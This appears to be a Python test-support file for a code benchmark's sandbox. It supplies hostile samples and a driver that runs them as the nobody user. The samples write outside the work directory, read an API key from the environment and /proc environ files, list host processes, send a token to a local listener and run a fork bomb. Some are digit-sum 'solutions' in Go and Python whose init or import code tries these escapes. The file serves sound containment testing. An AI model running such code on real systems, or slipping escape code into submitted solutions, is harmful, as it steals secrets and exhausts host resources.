"""Hostile samples for the benchmark sandbox tests, and a driver that runs them as another user.

Standard library only, and importable with nothing but a copy of bench/ on sys.path: as
uid 65534 the tests run this file with the system python (the project's own interpreter may
sit in a home directory that nobody can enter).

    python3 sandbox_hostile.py '{"isolate": true, "cases": [...], "ctx": {...}}'

prints one JSON object: case name -> what happened (see `run_case`).
"""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import sys
import tempfile
import uuid
from pathlib import Path

# Small limits, so each containment shows quickly; the hostile samples ask for more.
LIMITS = {"cpu_seconds": 1, "address_space": 1 << 30, "file_size": 1 << 20, "processes": 32,
          "open_files": 256}
SECRET_VAR = "OPENAI_API_KEY"

_CODE = {
    # every write that lands: the test then looks for the files on the host
    "write_outside": """
import json, os
done = []
for path in [OUT + "/escaped-" + TOK, "/tmp/" + TOK, "/var/tmp/" + TOK, "/dev/shm/" + TOK]:
    try:
        with open(path, "w") as f:
            f.write("x")
        done.append(path)
    except OSError as e:
        print("refused", path, e)
with open("mine.txt", "w") as f:  # its own dir stays writable
    f.write("ok")
print("wrote", json.dumps(done))
""",
    # the variable itself, and every environment /proc lets it read (the parent's included)
    "env_secret": """
import os
print("env:", os.environ.get(VAR, "<unset>"))
for pid in os.listdir("/proc"):
    if pid.isdigit():
        try:
            with open("/proc/%s/environ" % pid, "rb") as f:
                for item in f.read().split(b"\\0"):
                    if item.startswith(VAR.encode() + b"="):
                        print("proc:", pid, item.decode())
        except OSError:
            pass
""",
    # host processes (and their command lines, which can hold secrets) must stay invisible
    "processes": """
import os
seen = []
for pid in os.listdir("/proc"):
    if pid.isdigit():
        try:
            with open("/proc/%s/cmdline" % pid, "rb") as f:
                seen.append(f.read().replace(b"\\0", b" ").decode(errors="replace"))
        except OSError:
            pass
print("count", len(seen))
print("\\n".join(seen))
""",
    "connect": """
import socket
try:
    s = socket.create_connection(("127.0.0.1", PORT), timeout=3)
    s.sendall(TOK.encode())
    s.close()
    print("connected")
except OSError as e:
    print("no connection:", e)
""",
    # bounded: how many children could it start (each waits, then exits)?
    "fork_count": """
import os, time
n = 0
for _ in range(100):
    try:
        pid = os.fork()
    except OSError:
        break
    if pid == 0:
        time.sleep(1)
        os._exit(0)
    n += 1
print("forked", n, flush=True)
while True:
    try:
        os.wait()
    except ChildProcessError:
        break
""",
    "fork_bomb": """
import os
while True:
    try:
        os.fork()
    except OSError:
        pass
""",
    "cpu_loop": """
while True:
    pass
""",
    "huge_alloc": """
try:
    b = bytes(4 << 30)  # calloc'd: no memory is touched when the allocation succeeds
    print("allocated", len(b))
except MemoryError:
    print("MemoryError")
""",
    "huge_file": """
import os
chunk = b"x" * 65536
try:
    with open("big.bin", "wb") as f:
        for _ in range(64):  # 4 MiB
            f.write(chunk)
    print("wrote", os.path.getsize("big.bin"))
except OSError as e:
    print("refused", e.errno, os.path.getsize("big.bin"))
""",
}
CASES = tuple(_CODE)


def code_for(case: str, ctx: dict) -> str:
    """The sample, with what it attacks (the outside dir, the listener...) filled in."""
    head = (f"OUT = {ctx['outside']!r}\nTOK = {ctx['token']!r}\nPORT = {ctx['port']!r}\n"
            f"VAR = {SECRET_VAR!r}\n")
    return head + _CODE[case]


def _processes_with(marker: str) -> int:
    n = 0
    for pid in os.listdir("/proc"):
        if pid.isdigit():
            try:
                with open(f"/proc/{pid}/cmdline", "rb") as f:
                    if marker.encode() in f.read():
                        n += 1
            except OSError:
                pass
    return n


def run_case(case: str, isolate: bool, ctx: dict) -> dict:
    """Run one hostile sample through bench.sandbox and report what it achieved."""
    from bench.sandbox import DEFAULT_PATH, Limits, Sandbox, base_interpreter

    sb = Sandbox(limits=Limits(**LIMITS), isolate=isolate)
    work = Path(tempfile.mkdtemp(prefix="hrm-hostile-"))
    marker = f"hrm-hostile-{uuid.uuid4().hex}"
    try:
        sb.prepare_dir(work)
        python = base_interpreter()
        env = {"PATH": DEFAULT_PATH, "HOME": str(work), "LANG": "C.UTF-8"}
        timeout = ctx.get("timeouts", {}).get(case, 10.0)
        r = sb.run([python, "-I", "-c", code_for(case, ctx), marker], work, env,
                   timeout=timeout, readable=[Path(sys.base_prefix), Path(python).parent])
        big = work / "big.bin"
        return {"returncode": r.returncode, "timed_out": r.timed_out, "seconds": r.seconds,
                "stdout": r.stdout.decode(errors="replace"),
                "stderr": r.stderr.decode(errors="replace")[-2000:],
                "survivors": _processes_with(marker),
                "mine": (work / "mine.txt").is_file(),
                "big_size": big.stat().st_size if big.exists() else None,
                "describe": sb.describe(), "token": ctx["token"]}
    finally:
        shutil.rmtree(work, ignore_errors=True)


def run_polyglot(isolate: bool, ctx: dict) -> dict:
    """A hostile Go solution (its init() runs in the test binary) through run_tests."""
    from bench.polyglot.exercises import discover
    from bench.polyglot.testrun import run_tests, sandbox_for

    ex = discover(Path(ctx["fixtures"]), ["go"], ["digit-sum"])[0]
    work = Path(tempfile.mkdtemp(prefix="hrm-hostile-go-")) / ex.slug
    shutil.copytree(ex.path, work)
    (work / "digit_sum.go").write_text(go_solution(ctx))
    try:
        passed, output, timed_out = run_tests(ex, work, 180, sandbox_for(isolate))
        leak = work / "leak.txt"
        return {"passed": passed, "output": output[-2000:], "timed_out": timed_out,
                "leak": leak.read_text() if leak.exists() else None}
    finally:
        shutil.rmtree(work.parent, ignore_errors=True)


def go_solution(ctx: dict) -> str:
    """A correct digit-sum whose package init tries every escape."""
    out, tok, port = ctx["outside"], ctx["token"], ctx["port"]
    return f"""package digitsum

import (
	"net"
	"os"
)

func init() {{
	os.WriteFile("{out}/escaped-go-{tok}", []byte("x"), 0o644)
	os.WriteFile("leak.txt", []byte(os.Getenv("{SECRET_VAR}")), 0o644)
	if c, err := net.Dial("tcp", "127.0.0.1:{port}"); err == nil {{
		c.Write([]byte("{tok}"))
		c.Close()
	}}
}}

func DigitSum(n int) int {{
	s := 0
	for ; n > 0; n /= 10 {{
		s += n % 10
	}}
	return s
}}
"""


def python_solution(ctx: dict) -> str:
    """A correct digit_sum whose import tries every escape."""
    return f"""import os, socket

try:
    open({ctx['outside']!r} + "/escaped-py-" + {ctx['token']!r}, "w").write("x")
except OSError:
    pass
open("leak.txt", "w").write(os.environ.get({SECRET_VAR!r}, ""))
try:
    socket.create_connection(("127.0.0.1", {ctx['port']!r}), timeout=3).sendall(
        {ctx['token']!r}.encode())
except OSError:
    pass


def digit_sum(number):
    return sum(int(d) for d in str(number))
"""


def escape_program(ctx: dict) -> str:
    """A LiveCodeBench sample whose right answer is "contained": it prints what got out."""
    return f"""import os, socket
OUT, TOK, PORT, VAR = {ctx['outside']!r}, {ctx['token']!r}, {ctx['port']!r}, {SECRET_VAR!r}
escaped = []
try:
    with open(OUT + "/escaped-lcb-" + TOK, "w") as f:
        f.write("x")
    escaped.append("file")
except OSError:
    pass
if os.environ.get(VAR):
    escaped.append("env")
try:
    socket.create_connection(("127.0.0.1", PORT), timeout=3).sendall(TOK.encode())
    escaped.append("net")
except OSError:
    pass
print(" ".join(escaped) or "contained")
"""


def run_lcb(isolate: bool, ctx: dict) -> dict:
    """`escape_program` graded by the LiveCodeBench grader."""
    from datetime import datetime

    from bench.livecodebench.grader import grade, sandbox_for
    from bench.livecodebench.records import Problem

    test = {"input": "", "output": "contained\n", "testtype": "stdin"}
    prob = Problem("escape", "t", "c", "atcoder", datetime(2024, 9, 1), "", "easy", [test], None)
    g = grade(prob, escape_program(ctx), sandbox_for(isolate=isolate))
    return {"verdict": g.verdict, "detail": g.detail}


def without_namespaces(argv: list[str]) -> list[str]:
    """argv run where namespaces are refused: inside a user namespace whose limit on further
    user namespaces is 0 (as root of it, like a container's root without that right)."""
    return ["unshare", "--user", "--map-root-user", "sh", "-c",
            'echo 0 > /proc/sys/user/max_user_namespaces && exec "$@"', "sh", *argv]


def nobody_python() -> str | None:
    """A python3 that uid 65534 can execute (every dir on its real path enterable by others)."""
    for cand in ("/usr/bin/python3", "/usr/local/bin/python3", "/bin/python3"):
        real = os.path.realpath(cand)
        if os.path.isfile(real) and all(os.stat(p).st_mode & 0o001 for p in
                                        [*Path(real).parents, Path(real)]):
            return cand
    return None


def run_as_nobody(request: dict, secret: str, repo: Path, go_fixture: Path | None = None) -> dict:
    """This driver as uid 65534 (via setpriv), on a world-readable copy of bench/."""
    python = nobody_python()
    assert python, "no python3 that uid 65534 can run"
    tmp = Path(tempfile.mkdtemp(prefix="hrm-sandbox-nobody-"))
    try:
        shutil.copytree(repo / "bench", tmp / "bench",
                        ignore=shutil.ignore_patterns("__pycache__", "edits", "*.pyc"))
        shutil.copyfile(Path(__file__), tmp / "sandbox_hostile.py")
        if go_fixture is not None:
            dest = tmp / "fixtures" / "go" / "exercises" / "practice" / go_fixture.name
            shutil.copytree(go_fixture, dest)
            request = {**request, "ctx": {**request["ctx"], "fixtures": str(tmp / "fixtures")}}
        for root, dirs, files in os.walk(tmp):
            for name in dirs:
                os.chmod(os.path.join(root, name), 0o755)
            for name in files:
                os.chmod(os.path.join(root, name), 0o644)
        os.chmod(tmp, 0o755)
        env = {"PATH": "/usr/local/bin:/usr/bin:/bin", "LANG": "C.UTF-8", "HOME": "/nonexistent",
               "PYTHONPATH": str(tmp), "PYTHONDONTWRITEBYTECODE": "1", SECRET_VAR: secret}
        cmd = ["setpriv", "--reuid", "65534", "--regid", "65534", "--clear-groups", "--",
               python, str(tmp / "sandbox_hostile.py"), json.dumps(request)]
        r = subprocess.run(cmd, cwd=tmp, env=env, capture_output=True, text=True, timeout=590)
        assert r.returncode == 0, f"driver as nobody failed ({r.returncode}): {r.stderr[-3000:]}"
        return json.loads(r.stdout.strip().splitlines()[-1])
    finally:
        shutil.rmtree(tmp, ignore_errors=True)


def main() -> None:
    req = json.loads(sys.argv[1])
    out = {case: run_case(case, req["isolate"], req["ctx"]) for case in req["cases"]}
    if req.get("polyglot"):
        out["polyglot"] = run_polyglot(req["isolate"], req["ctx"])
    if req.get("lcb"):
        out["lcb"] = run_lcb(req["isolate"], req["ctx"])
    print(json.dumps(out))


if __name__ == "__main__":
    main()
